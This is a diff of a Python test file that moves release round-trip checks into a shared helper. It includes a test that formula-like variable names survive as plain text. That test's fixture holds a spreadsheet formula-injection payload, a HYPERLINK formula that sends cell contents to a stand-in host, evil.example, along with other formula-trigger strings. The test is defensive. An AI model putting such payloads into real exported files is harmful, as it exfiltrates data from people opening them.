@@ -124,28 +124,26 @@ class TestRoundTrip:
         again = release_files(summary.release, summary.study.table_schema)
         assert again == summary.files
 
-    def test_names_of_all_kinds(self, tmp_path, seed):
+    def check_round_trip(self, folder, schema, seed):
+        """Write a release with these names, and read the same back."""
         local = clustered(np.random.default_rng(seed), [40, 30], (2, 2), draws=20)
-        names = ['a "quoted", $name$', "two, and 数", "=1+1", "plain"]
-        schema = Schema((Variable(names[0], (names[1], names[2])), Variable(names[3], ("a", "b"))))
         shard = Shard(schema, local.draws.shard.codes)
         local = replace(local, draws=replace(local.draws, shard=shard))
         study = make_study(schema, ROSTER, tier="draws")
         release = make_release(local, silo="north", place=0, study=digest(study), tier="draws")
-        write_release(release, tmp_path / "r", schema)
-        assert fingerprint(read_release(tmp_path / "r", study)) == fingerprint(release)
+        write_release(release, folder, schema)
+        assert fingerprint(read_release(folder, study)) == fingerprint(release)
+
+    def test_names_of_all_kinds(self, tmp_path, seed):
+        names = ['a "quoted", $name$', "two, and 数", "=1+1", "plain"]
+        schema = Schema((Variable(names[0], (names[1], names[2])), Variable(names[3], ("a", "b"))))
+        self.check_round_trip(tmp_path / "r", schema, seed)
 
     def test_names_that_are_formulas_are_text_to_a_spreadsheet(self, tmp_path, seed):
-        local = clustered(np.random.default_rng(seed), [40, 30], (2, 2), draws=20)
         levels = ("+ve", "-1"), ("'=1+1", "+")
         link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
         schema = Schema((Variable(link, levels[0]), Variable("@SUM(1)", levels[1])))
-        shard = Shard(schema, local.draws.shard.codes)
-        local = replace(local, draws=replace(local.draws, shard=shard))
-        study = make_study(schema, ROSTER, tier="draws")
-        release = make_release(local, silo="north", place=0, study=digest(study), tier="draws")
-        write_release(release, tmp_path / "r", schema)
-        assert fingerprint(read_release(tmp_path / "r", study)) == fingerprint(release)
+        self.check_round_trip(tmp_path / "r", schema, seed)
         assert read_contents(tmp_path / "r").schema == schema
         cells = {
             cell
